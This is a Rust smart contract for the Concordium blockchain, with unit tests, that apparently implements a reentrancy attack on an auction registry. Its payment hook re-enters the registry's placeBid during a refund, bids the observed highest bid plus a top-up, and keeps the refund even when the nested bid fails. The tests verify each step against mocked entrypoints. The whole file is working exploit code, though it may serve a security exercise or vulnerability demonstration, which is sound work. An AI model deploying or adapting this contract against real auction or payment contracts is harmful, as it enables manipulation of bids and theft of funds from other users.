use commons::{BidParams, ContractResult, CustomContractError, ItemId, ItemView};
use concordium_std::*;

use crate::external::InitParams;
use crate::state::State;

const PLACE_BID_ENTRYPOINT: &str = "placeBid";
const VIEW_ITEM_ENTRYPOINT: &str = "viewItem";

/// Deploy the bidder pointed at a registry. The hook stays disarmed until an
/// item is configured with `setItemId`.
#[init(contract = "ReentrantBidder", parameter = "InitParams")]
fn contract_init<S: HasStateApi>(
    ctx: &impl HasInitContext,
    _state_builder: &mut StateBuilder<S>,
) -> InitResult<State> {
    let params = InitParams::deserial(&mut ctx.parameter_cursor())?;
    Ok(State {
        owner: ctx.init_origin(),
        target: params.target,
        item: None,
        top_up: params.top_up,
        reentered: false,
    })
}

/// Point the bidder at a different registry.
#[receive(
    mutable,
    contract = "ReentrantBidder",
    name = "setTarget",
    parameter = "ContractAddress"
)]
fn contract_set_target<S: HasStateApi>(
    ctx: &impl HasReceiveContext,
    host: &mut impl HasHost<State, StateApiType = S>,
) -> ContractResult<()> {
    let target: ContractAddress = ctx.parameter_cursor().get()?;

    ensure!(
        ctx.sender().matches_account(&host.state().owner),
        CustomContractError::NotOwner
    );

    host.state_mut().target = target;

    Ok(())
}

/// Arm the payment hook for an item.
#[receive(
    mutable,
    contract = "ReentrantBidder",
    name = "setItemId",
    parameter = "ItemId"
)]
fn contract_set_item_id<S: HasStateApi>(
    ctx: &impl HasReceiveContext,
    host: &mut impl HasHost<State, StateApiType = S>,
) -> ContractResult<()> {
    let item: ItemId = ctx.parameter_cursor().get()?;

    ensure!(
        ctx.sender().matches_account(&host.state().owner),
        CustomContractError::NotOwner
    );

    host.state_mut().item = Some(item);

    Ok(())
}

/// Forward an ordinary bid to the registry, attaching the received value.
/// This is how the bidder becomes the refund recipient of a later bid.
#[receive(
    mutable,
    payable,
    contract = "ReentrantBidder",
    name = "placeBid"
)]
fn contract_place_bid<S: HasStateApi>(
    _ctx: &impl HasReceiveContext,
    host: &mut impl HasHost<State, StateApiType = S>,
    amount: Amount,
) -> ContractResult<()> {
    let target = host.state().target;
    let item = host.state().item.ok_or(CustomContractError::NotConfigured)?;

    host.invoke_contract(
        &target,
        &BidParams { item },
        EntrypointName::new_unchecked(PLACE_BID_ENTRYPOINT),
        amount,
    )?;

    Ok(())
}

/// Accept plain value. The nested bid needs more than the refund alone, so
/// the bidder is topped up before the attack.
#[receive(payable, contract = "ReentrantBidder", name = "fund")]
fn contract_fund<S: HasStateApi>(
    _ctx: &impl HasReceiveContext,
    _host: &impl HasHost<State, StateApiType = S>,
    _amount: Amount,
) -> ContractResult<()> {
    Ok(())
}

/// Payment hook, invoked by the registry when it pushes a refund here.
///
/// On the first refund from the configured registry with an item armed, the
/// hook reads the registry's current record of that item and re-enters
/// `placeBid` with that record plus the configured top-up, all while the
/// outer `placeBid` is still on the stack. The latch keeps the nested call
/// from triggering the hook again when its own refund arrives. Payments from
/// anyone else are accepted and ignored.
#[receive(mutable, payable, contract = "ReentrantBidder", name = "receive")]
fn contract_receive<S: HasStateApi>(
    ctx: &impl HasReceiveContext,
    host: &mut impl HasHost<State, StateApiType = S>,
    _amount: Amount,
) -> ContractResult<()> {
    let state = host.state();
    let target = state.target;

    if ctx.sender() != Address::Contract(target) || state.reentered {
        return Ok(());
    }
    let item = match state.item {
        Some(item) => item,
        None => return Ok(()),
    };

    host.state_mut().reentered = true;

    let observed = view_target_item(host, target, item)?;
    let nested = observed.highest_bid + host.state().top_up;

    // a rejected nested bid is fine, the refund is kept either way
    let _ = host.invoke_contract(
        &target,
        &BidParams { item },
        EntrypointName::new_unchecked(PLACE_BID_ENTRYPOINT),
        nested,
    );

    Ok(())
}

/// Full configuration and latch status.
#[receive(contract = "ReentrantBidder", name = "view", return_value = "State")]
fn contract_view<S: HasStateApi>(
    _ctx: &impl HasReceiveContext,
    host: &impl HasHost<State, StateApiType = S>,
) -> ContractResult<State> {
    Ok(host.state().clone())
}

/// Read the registry's current record of `item`.
fn view_target_item<S: HasStateApi>(
    host: &mut impl HasHost<State, StateApiType = S>,
    target: ContractAddress,
    item: ItemId,
) -> ContractResult<ItemView> {
    let (_, response) = host.invoke_contract(
        &target,
        &item,
        EntrypointName::new_unchecked(VIEW_ITEM_ENTRYPOINT),
        Amount::zero(),
    )?;
    let mut response = response.ok_or(CustomContractError::InvokeContractError)?;
    Ok(response.get()?)
}

#[concordium_cfg_test]
mod tests {
    use super::*;
    use commons::test::{parse_and_check_mock, parse_and_ok_mock};
    use concordium_std::test_infrastructure::*;
    use std::cell::RefCell;
    use std::rc::Rc;

    const OWNER: AccountAddress = AccountAddress([0u8; 32]);
    const STRANGER: AccountAddress = AccountAddress([1u8; 32]);
    const TARGET: ContractAddress = ContractAddress {
        index: 1,
        subindex: 0,
    };
    const OTHER_CONTRACT: ContractAddress = ContractAddress {
        index: 9,
        subindex: 0,
    };

    const ITEM: ItemId = 1;
    const TOP_UP: Amount = Amount::from_micro_ccd(200_000);

    fn amt(micro: u64) -> Amount {
        Amount::from_micro_ccd(micro)
    }

    fn make_host() -> TestHost<State> {
        let params = to_bytes(&InitParams {
            target: TARGET,
            top_up: TOP_UP,
        });
        let mut ctx = TestInitContext::empty();
        ctx.set_init_origin(OWNER);
        ctx.set_parameter(&params);
        let mut state_builder = TestStateBuilder::new();
        let state = contract_init(&ctx, &mut state_builder).expect_report("init failed");
        TestHost::new(state, state_builder)
    }

    fn set_item(host: &mut TestHost<State>, sender: AccountAddress, item: ItemId) -> ContractResult<()> {
        let params = to_bytes(&item);
        let mut ctx = TestReceiveContext::empty();
        ctx.set_sender(Address::Account(sender));
        ctx.set_parameter(&params);
        contract_set_item_id(&ctx, host)
    }

    fn receive_refund(
        host: &mut TestHost<State>,
        sender: Address,
        amount: Amount,
    ) -> ContractResult<()> {
        let mut ctx = TestReceiveContext::empty();
        ctx.set_sender(sender);
        host.set_self_balance(host.self_balance() + amount);
        contract_receive(&ctx, host, amount)
    }

    /// Mock for the registry's `placeBid` recording every (item, amount)
    /// pair it is called with.
    fn recording_place_bid(calls: Rc<RefCell<Vec<(ItemId, Amount)>>>) -> MockFn<State> {
        MockFn::new(move |parameter, amount, _balance, _state: &mut State| {
            let params = BidParams::deserial(&mut Cursor::new(parameter))
                .map_err(|_| CallContractError::Trap)?;
            calls.borrow_mut().push((params.item, amount));
            Ok((false, None::<()>))
        })
    }

    fn place_bid_entrypoint() -> OwnedEntrypointName {
        OwnedEntrypointName::new_unchecked(PLACE_BID_ENTRYPOINT.into())
    }

    fn view_item_entrypoint() -> OwnedEntrypointName {
        OwnedEntrypointName::new_unchecked(VIEW_ITEM_ENTRYPOINT.into())
    }

    #[concordium_test]
    fn test_init_configures_bidder() {
        let host = make_host();
        let ctx = TestReceiveContext::empty();

        let view = contract_view(&ctx, &host).expect_report("view failed");
        claim_eq!(
            view,
            State {
                owner: OWNER,
                target: TARGET,
                item: None,
                top_up: TOP_UP,
                reentered: false,
            }
        );
    }

    #[concordium_test]
    fn test_set_target() {
        let mut host = make_host();
        let params = to_bytes(&OTHER_CONTRACT);

        let mut ctx = TestReceiveContext::empty();
        ctx.set_sender(Address::Account(STRANGER));
        ctx.set_parameter(&params);
        claim_eq!(
            contract_set_target(&ctx, &mut host),
            Err(CustomContractError::NotOwner)
        );

        let mut ctx = TestReceiveContext::empty();
        ctx.set_sender(Address::Account(OWNER));
        ctx.set_parameter(&params);
        claim_eq!(contract_set_target(&ctx, &mut host), Ok(()));
        claim_eq!(host.state().target, OTHER_CONTRACT);
    }

    #[concordium_test]
    fn test_set_item_id() {
        let mut host = make_host();

        claim_eq!(
            set_item(&mut host, STRANGER, ITEM),
            Err(CustomContractError::NotOwner)
        );
        claim_eq!(host.state().item, None);

        claim_eq!(set_item(&mut host, OWNER, ITEM), Ok(()));
        claim_eq!(host.state().item, Some(ITEM));
    }

    #[concordium_test]
    fn test_fund_accepts_value() {
        let host = make_host();
        let mut ctx = TestReceiveContext::empty();
        ctx.set_sender(Address::Account(OWNER));

        claim_eq!(contract_fund(&ctx, &host, amt(5_000_000)), Ok(()));
    }

    #[concordium_test]
    fn test_place_bid_forwards_to_registry() {
        let mut host = make_host();
        set_item(&mut host, OWNER, ITEM).expect_report("failed to arm item");

        let calls = Rc::new(RefCell::new(Vec::new()));
        host.setup_mock_entrypoint(
            TARGET,
            place_bid_entrypoint(),
            recording_place_bid(Rc::clone(&calls)),
        );

        let mut ctx = TestReceiveContext::empty();
        ctx.set_sender(Address::Account(OWNER));
        host.set_self_balance(amt(2_100_000));
        claim_eq!(contract_place_bid(&ctx, &mut host, amt(2_100_000)), Ok(()));

        claim_eq!(*calls.borrow(), vec![(ITEM, amt(2_100_000))]);
    }

    #[concordium_test]
    fn test_place_bid_requires_item() {
        let mut host = make_host();

        let mut ctx = TestReceiveContext::empty();
        ctx.set_sender(Address::Account(OWNER));
        host.set_self_balance(amt(2_100_000));
        claim_eq!(
            contract_place_bid(&ctx, &mut host, amt(2_100_000)),
            Err(CustomContractError::NotConfigured)
        );
    }

    #[concordium_test]
    fn test_receive_outbids_observed_record() {
        let mut host = make_host();
        set_item(&mut host, OWNER, ITEM).expect_report("failed to arm item");

        // the registry still shows the bidder's own 2.1 as highest; the
        // query must be for the armed item
        host.setup_mock_entrypoint(
            TARGET,
            view_item_entrypoint(),
            parse_and_check_mock::<ItemId, State>(
                |id| *id == ITEM,
                ItemView {
                    starting_bid: amt(2_000_000),
                    highest_bid: amt(2_100_000),
                    highest_bidder: None,
                    ended: false,
                },
            ),
        );
        let calls = Rc::new(RefCell::new(Vec::new()));
        host.setup_mock_entrypoint(
            TARGET,
            place_bid_entrypoint(),
            recording_place_bid(Rc::clone(&calls)),
        );

        // headroom for the nested bid on top of the incoming refund
        host.set_self_balance(amt(1_000_000));
        let result = receive_refund(&mut host, Address::Contract(TARGET), amt(2_100_000));
        claim_eq!(result, Ok(()));

        // one nested bid at observed + top-up, and the latch is spent
        claim_eq!(*calls.borrow(), vec![(ITEM, amt(2_300_000))]);
        claim!(host.state().reentered);
    }

    #[concordium_test]
    fn test_receive_reenters_only_once() {
        let mut host = make_host();
        set_item(&mut host, OWNER, ITEM).expect_report("failed to arm item");
        host.state_mut().reentered = true;

        // no mocks are set up: any nested call would abort the test
        let result = receive_refund(&mut host, Address::Contract(TARGET), amt(2_300_000));
        claim_eq!(result, Ok(()));
    }

    #[concordium_test]
    fn test_receive_swallows_rejected_nested_bid() {
        let mut host = make_host();
        set_item(&mut host, OWNER, ITEM).expect_report("failed to arm item");

        host.setup_mock_entrypoint(
            TARGET,
            view_item_entrypoint(),
            parse_and_ok_mock::<ItemId, State>(ItemView {
                starting_bid: amt(2_000_000),
                highest_bid: amt(2_100_000),
                highest_bidder: None,
                ended: false,
            }),
        );
        host.setup_mock_entrypoint(
            TARGET,
            place_bid_entrypoint(),
            MockFn::new(|_parameter, _amount, _balance, _state: &mut State| {
                Err(CallContractError::<()>::Trap)
            }),
        );

        host.set_self_balance(amt(1_000_000));
        let result = receive_refund(&mut host, Address::Contract(TARGET), amt(2_100_000));

        // the nested bid failed, the refund is kept anyway
        claim_eq!(result, Ok(()));
        claim!(host.state().reentered);
    }

    #[concordium_test]
    fn test_receive_ignores_strangers() {
        let mut host = make_host();
        set_item(&mut host, OWNER, ITEM).expect_report("failed to arm item");

        // no mocks are set up: any nested call would abort the test
        let result = receive_refund(&mut host, Address::Contract(OTHER_CONTRACT), amt(2_100_000));
        claim_eq!(result, Ok(()));
        claim!(!host.state().reentered);

        let result = receive_refund(&mut host, Address::Account(STRANGER), amt(1_000_000));
        claim_eq!(result, Ok(()));
        claim!(!host.state().reentered);
    }

    #[concordium_test]
    fn test_receive_without_item_is_inert() {
        let mut host = make_host();

        let result = receive_refund(&mut host, Address::Contract(TARGET), amt(2_100_000));
        claim_eq!(result, Ok(()));
        claim!(!host.state().reentered);
    }
}
